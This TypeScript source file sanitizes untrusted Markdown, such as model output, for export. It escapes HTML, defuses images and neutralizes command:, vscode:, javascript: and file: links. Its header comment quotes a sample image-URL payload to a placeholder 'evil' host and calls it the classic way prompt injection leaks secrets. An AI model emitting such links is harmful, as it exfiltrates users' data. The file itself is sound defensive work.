// Makes untrusted Markdown (model output, pasted text) safe to write into an exported document, and
// changes nothing else: code blocks and code spans stay byte for byte, raw HTML is escaped so it shows
// as text, images become plain links, so opening the export never fetches a remote image (the
// classic way an injected prompt leaks data: `![](https://evil/?d=secret)`), and links stay links only
// to the web or mail: a `command:`, `vscode:`, `javascript:` or `file:` target is shown as text, since
// the reader of an export (a Markdown preview, a wiki) may make it clickable.
import MarkdownIt from 'markdown-it';

// Only used to find where block code is; its HTML option matters for nothing here.
const parser = new MarkdownIt({ html: true });

/** A CommonMark autolink (`<https://…>`): a link, not HTML, so it is kept when it is a web or mail link. */
const AUTOLINK = /^<[A-Za-z][A-Za-z0-9.+-]{1,31}:[^\s<>]*>/;
/** Schemes a link in an export may keep. */
const SAFE_SCHEME = /^(?:https?|mailto):/i;
/** A link destination that names a scheme (`command:…`, `<vscode://…>`); one without is relative. */
const SCHEME = /^<?\s*([A-Za-z][A-Za-z0-9.+-]{1,31}):/;
/** A link reference definition (`[label]: destination`) at the start of a line. */
const REFERENCE_DEFINITION = /^ {0,3}\[(?:[^\]\\]|\\.)+\]:[ \t]*/;

/** True for a destination with a scheme other than http(s)/mailto. */
function unsafeTarget(destination: string): boolean {
  const scheme = SCHEME.exec(destination.trimStart());
  return scheme !== null && !SAFE_SCHEME.test(`${scheme[1]}:`);
}

export function safeMarkdown(markdown: string): string {
  const lines = markdown.split('\n');
  const verbatim = new Array<boolean>(lines.length).fill(false);
  let openFence: string | undefined;
  for (const token of parser.parse(markdown, {})) {
    if ((token.type === 'fence' || token.type === 'code_block') && token.map) {
      for (let i = token.map[0]; i < token.map[1]; i++) verbatim[i] = true;
      openFence = token.type === 'fence' && token.level === 0 && isUnclosed(token.markup, lines, token.map) ? token.markup : undefined;
    } else {
      openFence = undefined;
    }
  }
  const out: string[] = [];
  let prose: string[] = [];
  const flush = (): void => {
    if (prose.length > 0) out.push(safeProse(prose.join('\n')));
    prose = [];
  };
  lines.forEach((line, i) => {
    if (verbatim[i]) {
      flush();
      out.push(line);
    } else prose.push(line);
  });
  flush();
  // A fence left open would run to the end of the whole export, swallowing the turns after this one.
  if (openFence) out.splice(out.at(-1) === '' ? -1 : out.length, 0, openFence);
  return out.join('\n');
}

/** True when a top-level fence runs to the end of the text without its closing line. */
function isUnclosed(markup: string, lines: string[], [start, end]: [number, number]): boolean {
  if (end < lines.length && lines.slice(end).some((l) => l.trim() !== '')) return false;
  const last = lines
    .slice(start + 1, end)
    .filter((l) => l.trim() !== '')
    .at(-1);
  const close = last === undefined ? undefined : /^ {0,3}(`{3,}|~{3,})[ \t]*$/.exec(last)?.[1];
  return !(close && close[0] === markup[0] && close.length >= markup.length);
}

/** Text outside block code: code spans kept, `<` escaped unless it opens an autolink, images unmade. */
export function safeProse(text: string): string {
  let out = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    const lineStart = i === 0 || text[i - 1] === '\n';
    if (lineStart && c !== '\\') {
      // `[label]: command:…` defines a link target: escaping its bracket makes it plain text.
      const definition = REFERENCE_DEFINITION.exec(text.slice(i, i + 1200))?.[0];
      if (definition && unsafeTarget(text.slice(i + definition.length, i + definition.length + 40))) {
        const bracket = definition.indexOf('[');
        out += `${definition.slice(0, bracket)}\\[`;
        i += bracket + 1;
        continue;
      }
    }
    if (c === '\\' && i + 1 < text.length) {
      out += text.slice(i, i + 2);
      i += 2;
    } else if (c === '`') {
      const span = codeSpanAt(text, i);
      out += span;
      i += span.length;
    } else if (c === '<') {
      const found = AUTOLINK.exec(text.slice(i, i + 2100))?.[0];
      const link = found && SAFE_SCHEME.test(found.slice(1)) ? found : undefined;
      out += link ?? '&lt;';
      i += link ? link.length : 1;
    } else if (c === ']' && text[i + 1] === '(' && unsafeTarget(text.slice(i + 2, i + 80))) {
      // `[text](command:…)`: with the parenthesis escaped it is no longer a link; every character stays.
      out += ']\\(';
      i += 2;
    } else if (c === '!' && text[i + 1] === '[') {
      // An escaped "!" keeps the character and turns the image into the link that follows it.
      out += '\\!';
      i += 1;
    } else {
      out += c;
      i += 1;
    }
  }
  return out;
}

/** The code span starting at `start` (up to its closing run), or just the backtick run when unclosed. */
function codeSpanAt(text: string, start: number): string {
  let end = start;
  while (text[end] === '`') end++;
  const run = end - start;
  // A span ends at the next run of exactly as many backticks, within the same paragraph.
  const paragraphEnd = text.slice(end).search(/\n[ \t]*\n/);
  const limit = paragraphEnd === -1 ? text.length : end + paragraphEnd;
  const closer = new RegExp(`(?<!\`)\`{${run}}(?!\`)`, 'g');
  closer.lastIndex = end;
  const match = closer.exec(text);
  return match && match.index < limit ? text.slice(start, match.index + run) : text.slice(start, end);
}
